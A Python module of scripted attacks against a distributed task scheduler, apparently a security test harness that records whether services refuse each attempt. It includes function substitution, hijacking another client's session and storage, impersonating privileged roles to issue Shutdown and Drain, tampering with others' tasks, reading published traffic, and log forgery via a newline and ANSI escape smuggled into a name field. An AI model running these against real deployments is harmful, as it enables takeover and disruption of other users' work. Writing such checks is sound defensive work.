"""The attacks. Each returns what the attacker has got: what services said, in words; nothing if they said nothing."""

from __future__ import annotations

import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace

from scaler_io.links.events import LinkDown, LinkLost, LinkRefused, LinkUp
from scaler_io.links.uplink import Uplink
from scaler_io.security.keyring import Credentials
from scaler_io.transport.publishing import Subscriber
from scaler_io.transport.zeromq import Dialer
from scaler_protocol.addresses import Address
from scaler_protocol.capacity import ListWorkers
from scaler_protocol.handshake import Hello, Role, ServiceKind
from scaler_protocol.ids import first_task, named_function_id, new_identity, new_incarnation, new_session
from scaler_protocol.messages import (
    Cancel,
    Done,
    Functions,
    Group,
    Message,
    NeedFunctions,
    Reconcile,
    Release,
    Shutdown,
    Submit,
)
from scaler_protocol.operations import Drain
from scaler_protocol.payloads import Payloads
from scaler_protocol.storage import DeleteObjects, ListObjects, PutObject

ANSWER_SECONDS = 20.0
"""How long a service may take to say something; it mostly does at once."""
SQRT = named_function_id("math:sqrt")


@dataclass(frozen=True)
class Target:
    """The scheduler, the attacker's keys, and a client that is to be hurt."""

    scheduler: Address
    credentials: Credentials | None
    session: int
    task: int


def tell(target: Target, hello: Hello, *messages: Message) -> list[str]:
    """Connect to a service, say something, ask for an answer, and return all that it said."""
    address = target.scheduler.beside(hello.service)
    dialer = Dialer(address, Uplink(hello, time.monotonic(), timeout_seconds=5), credentials=target.credentials)
    probe: Message = ListObjects(1) if hello.service == ServiceKind.STORAGE else ListWorkers(1)
    answers, until = list[str](), time.monotonic() + ANSWER_SECONDS
    try:
        while time.monotonic() < until:
            for event in dialer.turn(time.monotonic()):
                if isinstance(event, LinkUp):
                    for message in (*messages, probe):
                        dialer.send(message)
                elif isinstance(event, LinkRefused):
                    return [*answers, f"refused: {'; '.join(event.reasons)}"]
                elif isinstance(event, LinkLost):
                    return [*answers, f"lost: {event.reason}"]
                elif not isinstance(event, LinkDown):
                    answers.append(f"{type(event).__name__}: {event}")
            dialer.flush(time.monotonic())
            if any(answer.startswith(("ObjectList", "WorkerList")) for answer in answers):
                return answers
            time.sleep(0.01)
        return answers
    finally:
        dialer.close()


def hello(role: int, service: int, session: int = 0, name: str = "attacker") -> Hello:
    """A Hello in a role."""
    return Hello(
        role, new_identity(), new_incarnation(), session=session, session_key=b"k" * 16, name=name, service=service
    )


def to_scheduler(target: Target, *messages: Message, role: int = Role.CLIENT) -> list[str]:
    """What the scheduler says to a client."""
    return tell(target, hello(role, ServiceKind.SCHEDULER, new_session()), *messages)


def to_storage(target: Target, session: int, *messages: Message, role: int = Role.CLIENT) -> list[str]:
    """What object storage says to a peer that names this session."""
    return tell(target, hello(role, ServiceKind.STORAGE, session), *messages)


def substitute_a_function(target: Target) -> list[str]:
    """Have everybody's math.sqrt be os.getpid."""
    session = new_session()
    another = Submit(
        [Group(SQRT)], [first_task(session) + 1], Payloads([b""]),
        functions=[SQRT], names=["os:getpid"], bodies=Payloads([b""]),
    )  # fmt: skip
    return tell(
        target,
        hello(Role.CLIENT, ServiceKind.SCHEDULER, session),
        Functions([SQRT], ["os:getpid"], Payloads([b""])),
        another,
    )


def take_a_session(target: Target) -> list[str]:
    """Own another client's objects; list them, delete them, add some."""
    name = b"o" * 16
    messages = (ListObjects(2), DeleteObjects(session=target.session), PutObject(name, 2, Payloads([b"xx"])))
    return to_storage(target, target.session, *messages) + to_storage(
        target, target.session, *messages, role=Role.AGENT
    )


def take_a_link(target: Target) -> list[str]:
    """Be the other client to the scheduler."""
    return tell(target, hello(Role.CLIENT, ServiceKind.SCHEDULER, target.session), Release([target.task]))


def take_a_number(target: Target) -> list[str]:
    """Begin a named session with the number of the other client's."""
    named = replace(hello(Role.CLIENT, ServiceKind.SCHEDULER, target.session), session_name="another")
    return tell(target, named, Release([target.task]))


def act_as(role: int) -> Callable[[Target], list[str]]:
    """Connect in another role."""

    def attack(target: Target) -> list[str]:
        return to_scheduler(target, Shutdown(), Drain(1, 1), role=role)

    return attack


def end_tasks(target: Target) -> list[str]:
    """Cancel, release, finish and claim another client's task, and ask for its function."""
    tasks, run = [target.task], 1
    return [
        answer
        for message in (
            Cancel(tasks),
            Release(tasks),
            Done(tasks, [0], Payloads([b"false"]), runs=[run]),
            NeedFunctions([SQRT]),
            Reconcile(wanted=tasks),
        )
        for answer in to_scheduler(target, message)
    ]


def subscribe(target: Target) -> list[str]:
    """Read what the scheduler publishes."""
    subscriber = Subscriber(target.scheduler.beside(2), target.credentials)
    try:
        until = time.monotonic() + ANSWER_SECONDS
        while time.monotonic() < until and not subscriber.problem:
            subscriber.wait(0.1)
            if frames := subscriber.receive():
                return [f"published: {len(frames)}"]
        return [f"refused: {subscriber.problem}"] if subscriber.problem else []
    finally:
        subscriber.close()


def forge_a_log(target: Target) -> list[str]:
    """Write a line of its own into logs, and colour terminals."""
    return tell(
        target, hello(Role.CLIENT, ServiceKind.SCHEDULER, new_session(), name="x\n[INFO]forged\x1b[31m"), Shutdown()
    )


ATTACKS: Mapping[str, Callable[[Target], Sequence[str]]] = {
    "function": substitute_a_function,
    "session": take_a_session,
    "link": take_a_link,
    "number": take_a_number,
    "tasks": end_tasks,
    "agent": act_as(Role.AGENT),
    "operator": act_as(Role.OPERATOR),
    "manager": act_as(Role.MANAGER),
    "monitor": subscribe,
    "log": forge_a_log,
}
"""By name."""
